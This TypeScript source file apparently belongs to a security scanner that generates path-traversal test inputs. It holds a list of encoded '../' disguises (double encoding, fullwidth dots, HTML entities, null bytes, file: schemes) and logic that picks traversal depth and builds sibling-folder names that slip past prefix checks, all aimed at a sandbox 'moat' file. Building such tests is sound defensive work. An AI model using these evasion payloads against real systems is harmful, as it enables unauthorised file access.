/**
 * Ways out of a folder in each disguise that careless filters and decoders undo, once each: `....//x`, `..%2fx`,
 * `%252e%252e%252fx`, `..\x`.
 */
import { limits } from '../../model/limits.ts';
import { type Text, textOf } from '../../model/text.ts';
import type { Aim } from '../base/aim.ts';
import { freeName } from '../base/aim.ts';
import { baseName } from '../base/fileNames.ts';
import { rewriteLiterals } from '../base/phrase.ts';
import { moatFileNames, siblingSuffixes } from '../base/pool.ts';
import { levelsOver } from './learntWays.ts';

type Rewrite = (literal: string) => string;

const rewrites: readonly Rewrite[] = [
  (literal) => literal.replaceAll('../', '....//'),
  (literal) => literal.replaceAll('../', '..\\'),
  (literal) => literal.replaceAll('../', '..%2f'),
  (literal) => literal.replaceAll('../', '\uff0e\uff0e\uff0f'),
  (literal) => literal.replaceAll('../', '..././'),
  (literal) => literal.replaceAll('../', '%2e%2e%2f'),
  (literal) => literal.replaceAll('../', '%252e%252e%252f'),
  (literal) => literal.replaceAll('../', '..//'),
  (literal) => literal.replaceAll('../', '.\\./'),
  (literal) => literal.replaceAll('../', '&#46;&#46;&#47;'),
  (literal) => literal.replaceAll('/', '&#x2f;'),
  (literal) => literal.replaceAll('../', '..;/'),
  (literal) => `${literal}\0`,
  (literal) => `${literal}%00.txt`,
  (literal) => `./${literal}`,
  (literal) => `/${literal}`,
  (literal) => `file:${literal}`,
];

/** As many levels up as lead out, where that was learnt, else as many as are usual; to each of the names. */
export function disguises(aim: Aim, names: readonly string[]): Text[] {
  const [file = ''] = moatFileNames;
  const levels = aim.base?.store === 'file' ? [levelsOver(aim.base)] : levelsOut(aim);
  const plain = levels.flatMap((count) => names.map((name) => '../'.repeat(count) + name));
  const schemes: Text[] = ['file://', 'file:'].map((scheme) => [scheme, { place: 'moat' }, `/${file}`]);
  const doubled: Text[] = ['/', '//', '\\'].map((sign) => [sign, { place: 'moat' }, `/${file}`]);
  return [
    ...rewrites.flatMap((rewrite) => plain.map((text) => rewriteLiterals(text, rewrite))),
    ...schemes,
    ...doubled,
  ].filter((text) => !startsAtRoot(text));
}

/** How many levels lead out of a folder: few, and as many as the folders are deep in which files were seen. */
function levelsOut({ paths }: Aim): readonly number[] {
  const depths = paths.map((path) => path.split('/').length).filter((depth) => depth <= limits.dotdotMax);
  const deepest = Math.max(1, ...depths);
  const common = [...new Set(depths)].sort((one, other) => countOf(depths, other) - countOf(depths, one));
  return [...new Set([1, 2, ...common.slice(0, 1), Math.min(deepest, limits.disguisedLevelsMax)])];
}

function countOf(depths: readonly number[], depth: number): number {
  return depths.filter((one) => one === depth).length;
}

/**
 * Names without a slash before they are decoded, so that a view whose URL takes one component gets them whole: absolute ones,
 * and ones beside a folder, which a comparison of prefixes accepts once they are decoded.
 */
export function encodedWhole(aim: Aim): Text[] {
  const [file = ''] = moatFileNames;
  const [suffix = ''] = siblingSuffixes;
  const beside = [{ place: 'sandboxName' as const }, ...aim.folders.map(baseName)];
  return [
    ...[file, freeName(aim)].map((name): Text => [{ place: 'moatEncoded' }, `%2f${name}`]),
    ...beside.map((folder): Text => textOf(['..%2f', folder, `${suffix}%2f${file}`])),
  ];
}

/** No attack of ours may name a place of the real system. */
function startsAtRoot(text: Text): boolean {
  return typeof text === 'string' && text.startsWith('/');
}
